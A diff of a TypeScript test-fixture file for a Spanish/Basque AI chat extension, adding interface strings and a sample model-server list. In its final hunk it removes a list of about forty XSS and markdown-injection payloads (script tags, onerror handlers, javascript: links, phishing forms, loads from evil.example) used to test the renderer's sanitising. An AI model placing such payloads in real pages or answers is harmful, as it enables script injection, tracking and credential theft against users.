@@ -1,5 +1,6 @@
 // The samples are in Spanish and Basque. cspell:disable
-import type { ViewAnswers, ViewMessage, ViewState, ViewText } from '../../src/core/chat/protocol';
+import type { ViewAnswers, ViewModels, ViewMessage, ViewState, ViewText } from '../../src/core/chat/protocol';
+import { composerWith } from './composerSamples';
 
 /** Words of the view in Spanish. */
 export const spanish: ViewText = {
@@ -26,7 +27,6 @@ export const spanish: ViewText = {
   emptyTitle: 'Pregunta en tu lengua',
   emptyBody: 'Selecciona código y pide que te lo explique, o escribe abajo lo que quieres saber.',
   selectionAttached: 'Va con la pregunta:',
-  selectionRemove: 'Quitar la selección',
   answersMenu: 'Idioma y nivel de las respuestas',
   scopeLabel: 'Elegir',
   scopeConversation: 'Para esta conversación',
@@ -34,6 +34,46 @@ export const spanish: ViewText = {
   languagesLabel: 'Responde en',
   levelsLabel: 'Explicaciones',
   independent: 'Aliada es un proyecto independiente del BSC y del programa ALIA.',
+  actions: {
+    copyAnswer: 'Copiar la respuesta',
+    regenerate: 'Responder otra vez',
+    continue: 'Continuar',
+    edit: 'Editar la pregunta',
+    editLabel: 'La pregunta con otras palabras',
+    sendEdited: 'Enviar',
+    cancel: 'Cancelar',
+    previous: 'Versión anterior',
+    next: 'Versión siguiente',
+    followUps: 'Seguir con',
+    interruptedNote: 'La ventana se cerró antes de que la respuesta estuviera completa.',
+  },
+  history: {
+    title: 'Conversaciones',
+    open: 'Ver las conversaciones',
+    close: 'Volver al chat',
+    search: 'Buscar en títulos y textos',
+    searching: 'Buscando…',
+    none: 'Aún no hay conversaciones.',
+    nothingFound: 'No se ha encontrado nada.',
+    rename: 'Cambiar el nombre',
+    renameLabel: 'Nombre de la conversación',
+    export: 'Exportar como Markdown',
+    delete: 'Eliminar',
+    deleted: 'Eliminada',
+    undo: 'Deshacer',
+    deleteAll: 'Eliminar todas',
+    current: 'abierta ahora',
+  },
+  code: {
+    apply: 'Aplicar',
+    applyName: 'Aplicar al archivo: muestra antes los cambios',
+    newFile: 'Archivo nuevo',
+    newFileName: 'Abrir como archivo nuevo',
+    terminal: 'Terminal',
+    terminalName: 'Escribir en un terminal, sin ejecutarlo',
+    unseen: 'Este código tiene caracteres que no se ven. Se muestran con su código.',
+    copiedUnseen: 'Copiado, con los caracteres que no se ven.',
+  },
 };
 
 const inSpanish: ViewAnswers = {
@@ -53,9 +93,54 @@ const inSpanish: ViewAnswers = {
   ],
 };
 
+/** Two servers, one of which is away. */
+export const someModels: ViewModels = {
+  name: 'ALIA-40b-instruct-2606',
+  description: 'Modelo: BSC-LT/ALIA-40b-instruct-2606 en alia.example.es.',
+  asking: false,
+  groups: [
+    {
+      host: 'alia.example.es',
+      options: [
+        {
+          value: 'alia',
+          label: 'BSC-LT/ALIA-40b-instruct-2606',
+          checked: true,
+          detail: '40B · contexto de 32.768 tokens',
+        },
+        {
+          value: 'fc',
+          label: 'BSC-LT/ALIA-40b-fc-2606',
+          checked: false,
+          detail: '40B · contexto de 32.768 tokens · puede usar herramientas',
+        },
+      ],
+    },
+    {
+      host: 'localhost:11434',
+      note: 'No se puede llegar a localhost:11434.',
+      options: [{ value: 'away', label: 'hdnh2006/salamandra-7b-instruct', checked: false, detail: '7B' }],
+    },
+  ],
+  context: {
+    share: 0.42,
+    label: '42 %',
+    description: 'Contexto en uso: 13.763 de 32.768 tokens (42 %).',
+  },
+  text: {
+    menu: 'Modelo de las respuestas',
+    asking: 'Preguntando qué modelos hay…',
+    another: 'Configurar otro servidor…',
+  },
+};
+
 /** A state with nothing in it, changed as a test needs it. */
 export function stateWith(changes: Partial<ViewState> = {}): ViewState {
-  return { lang: 'es', text: spanish, messages: [], busy: false, answers: inSpanish, ...changes };
+  return {
+    ...{ lang: 'es', text: spanish, messages: [], busy: false, answers: inSpanish },
+    composer: composerWith(),
+    ...changes,
+  };
 }
 
 export function question(id: string, text: string, changes: Partial<ViewMessage> = {}): ViewMessage {
@@ -149,47 +234,3 @@ ${fence}rust
 fn batu(gastuak: &[Gastua]) -> HashMap<String, i64> {
     let mut batura = HashMap::new();
 `;
-
-/** Answers that try to run, load or hide something. Each sets \`pwned\` or fetches from evil.example if it can. */
-export const hostileAnswers: readonly string[] = [
-  '<script>window.pwned = 1</script>',
-  '<script src="https://evil.example/x.js"></script>',
-  '<img src=x onerror="window.pwned = 1">',
-  '![seguimiento](https://evil.example/pixel.png)',
-  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
-  '![a](https://evil.example/a.png "onerror=alert(1)")',
-  '[pulsa](javascript:window.pwned=1)',
-  '[pulsa](JaVaScRiPt&colon;window.pwned=1)',
-  '[pulsa](java\tscript:window.pwned=1)',
-  '[orden](command:workbench.action.terminal.new)',
-  '[datos](data:text/html,<script>parent.pwned=1</script>)',
-  '[fichero](file:///etc/passwd)',
-  '[vscode](vscode://settings/x)',
-  '[cita](https://ok.example/"onmouseover="window.pwned=1)',
-  '<https://ok.example/"onmouseover="window.pwned=1>',
-  '<a href="javascript:window.pwned=1">enlace</a>',
-  '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1"/></svg>',
-  '<svg><style><img src=x onerror=window.pwned=1></style></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.pwned=1>',
-  '<style>body { display: none } @import url(https://evil.example/x.css);</style>',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<iframe src="https://evil.example/"></iframe>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
-  '<form action="https://evil.example/"><input name="key"><button>Clave</button></form>',
-  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
-  '<video><source onerror="window.pwned=1"></video><audio src="https://evil.example/a.mp3">',
-  '<b onclick="window.pwned=1" style="position:fixed;inset:0">negrita</b>',
-  '<br><kbd>Ctrl</kbd> <sub>2</sub>',
-  '| a |\n|---|\n| <img src=x onerror=window.pwned=1> [x](javascript:pwned=1) |',
-  '- <script>window.pwned=1</script>\n  - > <img src=x onerror=window.pwned=1>',
-  '```html"><script>window.pwned=1</script>\n<img src=x onerror=window.pwned=1>\n```',
-  '```\n</code></pre><script>window.pwned=1</script>\n```',
-  '`<img src=x onerror=window.pwned=1>` ``</code><script>window.pwned=1</script>``',
-  '[x]: javascript:window.pwned=1\n\n[pulsa][x]',
-  '<a id="chat" name="body">clobber</a><form id="document"><input name="cookie"></form>',
-  '<template><script>window.pwned=1</script></template><noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
-  `${'>'.repeat(10_000)} hondo`,
-  `${'*'.repeat(500)} ${'['.repeat(2000)} ${'`'.repeat(999)}`,
-];
